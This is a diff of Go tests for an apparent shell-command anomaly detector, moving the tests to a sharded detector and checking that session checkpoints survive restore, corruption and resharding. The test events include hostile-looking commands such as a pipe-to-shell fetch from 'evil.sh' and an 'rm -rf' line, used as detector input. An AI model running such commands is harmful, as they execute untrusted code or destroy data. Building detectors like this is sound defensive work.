@@ -40,13 +40,13 @@ func chainConfig() Config {
 // to the uninterrupted detector's.
 func TestCheckpointRoundTrip(t *testing.T) {
 	cfg := shardedTestConfig()
-	mk := func() *Detector { return NewDetector(&hashScorer{}, cfg) }
+	mk := func() *ShardedDetector { return oneShard(t, &hashScorer{}, cfg) }
 	orig := mk()
 	evts := []Event{
 		ev("alice", 10, "ls"), ev("bob", 11, "curl evil.sh | sh"),
 		ev("alice", 12, "whoami"), ev("carol", 13, "make test"),
 	}
-	if _, err := orig.Process(evts); err != nil {
+	if _, err := orig.Shard(0).Process(evts); err != nil {
 		t.Fatal(err)
 	}
 
@@ -77,11 +77,11 @@ func TestCheckpointRoundTrip(t *testing.T) {
 	}
 
 	next := []Event{ev("alice", 20, "rm -rf /tmp/x"), ev("bob", 21, "id")}
-	va, err := orig.Process(next)
+	va, err := orig.Shard(0).Process(next)
 	if err != nil {
 		t.Fatal(err)
 	}
-	vb, err := restored.Process(next)
+	vb, err := restored.Shard(0).Process(next)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -94,8 +94,8 @@ func TestCheckpointRoundTrip(t *testing.T) {
 // a mangled header all fail with ErrCheckpointCorrupt before any decoding
 // touches the detector.
 func TestCheckpointCorruptRejected(t *testing.T) {
-	det := NewDetector(&stubScorer{}, DefaultConfig())
-	if _, err := det.Process([]Event{ev("u", 1, "ls"), ev("v", 2, "pwd")}); err != nil {
+	det := oneShard(t, &stubScorer{}, DefaultConfig())
+	if _, err := det.Shard(0).Process([]Event{ev("u", 1, "ls"), ev("v", 2, "pwd")}); err != nil {
 		t.Fatal(err)
 	}
 	var buf bytes.Buffer
@@ -111,7 +111,7 @@ func TestCheckpointCorruptRejected(t *testing.T) {
 		"empty":                {},
 	}
 	for name, data := range cases {
-		fresh := NewDetector(&stubScorer{}, DefaultConfig())
+		fresh := oneShard(t, &stubScorer{}, DefaultConfig())
 		err := fresh.RestoreSessions(bytes.NewReader(data))
 		if !errors.Is(err, ErrCheckpointCorrupt) {
 			t.Errorf("%s: error %v, want ErrCheckpointCorrupt", name, err)
@@ -128,8 +128,8 @@ func TestCheckpointCorruptRejected(t *testing.T) {
 // normal operations).
 func TestCheckpointConfigMismatchRejected(t *testing.T) {
 	cfg := DefaultConfig()
-	det := NewDetector(&stubScorer{}, cfg)
-	if _, err := det.Process([]Event{ev("u", 1, "ls")}); err != nil {
+	det := oneShard(t, &stubScorer{}, cfg)
+	if _, err := det.Shard(0).Process([]Event{ev("u", 1, "ls")}); err != nil {
 		t.Fatal(err)
 	}
 	var buf bytes.Buffer
@@ -139,13 +139,13 @@ func TestCheckpointConfigMismatchRejected(t *testing.T) {
 
 	bad := cfg
 	bad.MaxSessionLines = 7
-	if err := NewDetector(&stubScorer{}, bad).RestoreSessions(bytes.NewReader(buf.Bytes())); err == nil {
+	if err := oneShard(t, &stubScorer{}, bad).RestoreSessions(bytes.NewReader(buf.Bytes())); err == nil {
 		t.Fatal("window-shape mismatch accepted")
 	}
 
 	retuned := cfg
 	retuned.SessionThreshold = 0.42
-	if err := NewDetector(&stubScorer{}, retuned).RestoreSessions(bytes.NewReader(buf.Bytes())); err != nil {
+	if err := oneShard(t, &stubScorer{}, retuned).RestoreSessions(bytes.NewReader(buf.Bytes())); err != nil {
 		t.Fatalf("threshold-only change rejected: %v", err)
 	}
 }
@@ -173,19 +173,19 @@ func TestCheckpointResumesChainAlarm(t *testing.T) {
 	}
 
 	// Killed-and-restarted run.
-	first := NewDetector(chainScorer{}, cfg)
-	if _, err := first.Process([]Event{step1}); err != nil {
+	first := oneShard(t, chainScorer{}, cfg)
+	if _, err := first.Shard(0).Process([]Event{step1}); err != nil {
 		t.Fatal(err)
 	}
 	var ckpt bytes.Buffer
 	if err := first.SaveSessions(&ckpt); err != nil {
 		t.Fatal(err)
 	}
-	second := NewDetector(chainScorer{}, cfg)
+	second := oneShard(t, chainScorer{}, cfg)
 	if err := second.RestoreSessions(&ckpt); err != nil {
 		t.Fatal(err)
 	}
-	got, err := second.Process([]Event{step2})
+	got, err := second.Shard(0).Process([]Event{step2})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -210,7 +210,7 @@ func TestCheckpointResumesChainAlarm(t *testing.T) {
 func TestShardedCheckpointAcrossShardCounts(t *testing.T) {
 	cfg := shardedTestConfig()
 	evts := replayEvents(t, 12, 300)
-	mk := func(shards int) *ShardedDetector {
+	mk := func(shards int) *Service {
 		scorers := make([]tuning.Scorer, shards)
 		for i := range scorers {
 			scorers[i] = &hashScorer{}
@@ -219,10 +219,12 @@ func TestShardedCheckpointAcrossShardCounts(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		return dets
+		svc := NewShardedService(dets, ServiceConfig{})
+		t.Cleanup(svc.Close)
+		return svc
 	}
 	three := mk(3)
-	if _, err := three.Process(evts[:200]); err != nil {
+	if _, err := three.Submit(evts[:200]); err != nil {
 		t.Fatal(err)
 	}
 	var ckpt bytes.Buffer
@@ -234,21 +236,32 @@ func TestShardedCheckpointAcrossShardCounts(t *testing.T) {
 	if err := two.RestoreSessions(bytes.NewReader(ckpt.Bytes())); err != nil {
 		t.Fatal(err)
 	}
-	if got, want := statsNoSample(two.Stats()), statsNoSample(three.Stats()); !reflect.DeepEqual(got, want) {
+	if got, want := statsNoSample(two.Stats().Stats), statsNoSample(three.Stats().Stats); !reflect.DeepEqual(got, want) {
 		t.Fatalf("aggregate stats diverged: %+v vs %+v", got, want)
 	}
 
-	va, err := three.Process(evts[200:])
+	va, err := three.Submit(evts[200:])
 	if err != nil {
 		t.Fatal(err)
 	}
-	vb, err := two.Process(evts[200:])
+	vb, err := two.Submit(evts[200:])
 	if err != nil {
 		t.Fatal(err)
 	}
 	if !reflect.DeepEqual(va, vb) {
 		t.Fatal("resharded restore diverged from the original shard count")
 	}
+}
+
+// oneShard wraps a scorer as a single-shard detector: tests drive Process
+// on its shard and checkpoints on the sharded surface.
+func oneShard(t *testing.T, sc tuning.Scorer, cfg Config) *ShardedDetector {
+	t.Helper()
+	sd, err := NewShardedDetector([]tuning.Scorer{sc}, cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return sd
 }
 
 // statsNoSample strips the unordered quarantine sample for comparisons.
